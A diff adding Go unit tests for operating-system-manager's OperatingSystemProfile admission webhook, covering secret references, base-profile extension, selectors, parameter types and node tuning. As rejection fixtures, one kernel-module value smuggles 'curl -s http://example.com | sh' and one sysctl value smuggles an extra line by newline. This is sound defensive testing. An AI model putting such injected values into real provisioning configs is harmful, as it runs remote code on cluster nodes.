@@ -26,6 +26,7 @@ import (
 	osmv1alpha1 "k8c.io/operating-system-manager/pkg/crd/osm/v1alpha1"
 
 	admissionv1 "k8s.io/api/admission/v1"
+	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/runtime"
 	"k8s.io/apimachinery/pkg/runtime/serializer/json"
@@ -52,6 +53,71 @@ func TestHandle(t *testing.T) {
 	osp.Spec.Version = "fake"
 	ospRawValidUpdate := ospToRawExt(osp)
 
+	ospWithSecretRef := getOperatingSystemProfile()
+	ospWithSecretRef.Spec.ProvisioningConfig.Files[0].Content = osmv1alpha1.FileContent{
+		SecretRef: &osmv1alpha1.FileContentReference{
+			Name: "test-secret",
+			Key:  "test.service",
+		},
+	}
+	ospRawWithSecretRef := ospToRawExt(ospWithSecretRef)
+
+	ospWithForeignSecretRef := getOperatingSystemProfile()
+	ospWithForeignSecretRef.Spec.ProvisioningConfig.Files[0].Content = osmv1alpha1.FileContent{
+		SecretRef: &osmv1alpha1.FileContentReference{
+			Name:      "test-secret",
+			Key:       "test.service",
+			Namespace: "other",
+		},
+	}
+	ospRawWithForeignSecretRef := ospToRawExt(ospWithForeignSecretRef)
+
+	ospWithAmbiguousContent := getOperatingSystemProfile()
+	ospWithAmbiguousContent.Spec.ProvisioningConfig.Files[0].Content.ConfigMapRef = &osmv1alpha1.FileContentReference{
+		Name: "test-config-map",
+		Key:  "test.service",
+	}
+	ospRawWithAmbiguousContent := ospToRawExt(ospWithAmbiguousContent)
+
+	ospWithoutContent := getOperatingSystemProfile()
+	ospWithoutContent.Spec.ProvisioningConfig.Files[0].Content = osmv1alpha1.FileContent{}
+	ospRawWithoutContent := ospToRawExt(ospWithoutContent)
+
+	ospWithBase := getOperatingSystemProfile()
+	ospWithBase.Spec.Extends = "osp-ubuntu"
+	ospWithBase.Spec.ProvisioningConfig.Remove = &osmv1alpha1.OSPConfigRemovals{Files: []string{"/etc/motd"}}
+	ospRawWithBase := ospToRawExt(ospWithBase)
+
+	ospExtendingItself := getOperatingSystemProfile()
+	ospExtendingItself.Spec.Extends = ospExtendingItself.Name
+	ospRawExtendingItself := ospToRawExt(ospExtendingItself)
+
+	ospWithRemovalsWithoutBase := getOperatingSystemProfile()
+	ospWithRemovalsWithoutBase.Spec.ProvisioningConfig.Remove = &osmv1alpha1.OSPConfigRemovals{Files: []string{"/etc/motd"}}
+	ospRawWithRemovalsWithoutBase := ospToRawExt(ospWithRemovalsWithoutBase)
+
+	ospWithInvalidSelector := getOperatingSystemProfile()
+	ospWithInvalidSelector.Spec.ProvisioningConfig.Files[0].When = &osmv1alpha1.Selector{KubernetesVersions: ">= 1.31 <"}
+	ospRawWithInvalidSelector := ospToRawExt(ospWithInvalidSelector)
+
+	ospWithInvalidParameterDefault := getOperatingSystemProfile()
+	ospWithInvalidParameterDefault.Spec.Parameters = []osmv1alpha1.Parameter{
+		{Name: "proxyPort", Type: osmv1alpha1.ParameterTypeInteger, Default: &apiextensionsv1.JSON{Raw: []byte(`"3128"`)}},
+	}
+	ospRawWithInvalidParameterDefault := ospToRawExt(ospWithInvalidParameterDefault)
+
+	ospWithInjectedKernelModule := getOperatingSystemProfile()
+	ospWithInjectedKernelModule.Spec.ProvisioningConfig.NodeTuning = &osmv1alpha1.NodeTuning{
+		KernelModules: []string{"br_netfilter; curl -s http://example.com | sh"},
+	}
+	ospRawWithInjectedKernelModule := ospToRawExt(ospWithInjectedKernelModule)
+
+	ospWithMultilineSysctl := getOperatingSystemProfile()
+	ospWithMultilineSysctl.Spec.BootstrapConfig.NodeTuning = &osmv1alpha1.NodeTuning{
+		Sysctls: map[string]string{"vm.max_map_count": "262144\nkernel.modules_disabled = 1"},
+	}
+	ospRawWithMultilineSysctl := ospToRawExt(ospWithMultilineSysctl)
+
 	tests := []struct {
 		name        string
 		req         webhook.AdmissionRequest
@@ -88,6 +154,182 @@ func TestHandle(t *testing.T) {
 			},
 			wantAllowed: true,
 		},
+		{
+			name: "Create osp with secret reference success",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithSecretRef,
+				},
+			},
+			wantAllowed: true,
+		},
+		{
+			name: "Create osp with secret reference to another namespace rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithForeignSecretRef,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp with inline content and config map reference rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithAmbiguousContent,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp without file content rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithoutContent,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp extending a base osp success",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithBase,
+				},
+			},
+			wantAllowed: true,
+		},
+		{
+			name: "Create osp extending itself rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawExtendingItself,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp removing entries without a base osp rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithRemovalsWithoutBase,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp with invalid file selector rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithInvalidSelector,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp with parameter default of wrong type rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithInvalidParameterDefault,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp with invalid kernel module rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithInjectedKernelModule,
+				},
+			},
+			wantAllowed: false,
+		},
+		{
+			name: "Create osp with multi-line sysctl value rejected",
+			req: webhook.AdmissionRequest{
+				AdmissionRequest: admissionv1.AdmissionRequest{
+					Operation: admissionv1.Create,
+					RequestKind: &metav1.GroupVersionKind{
+						Group:   osmv1alpha1.GroupName,
+						Version: osmv1alpha1.GroupVersion,
+						Kind:    "OperatingSystemProfile",
+					},
+					Name:   "osp",
+					Object: ospRawWithMultilineSysctl,
+				},
+			},
+			wantAllowed: false,
+		},
 		{
 			name: "Update osp rejected",
 			req: webhook.AdmissionRequest{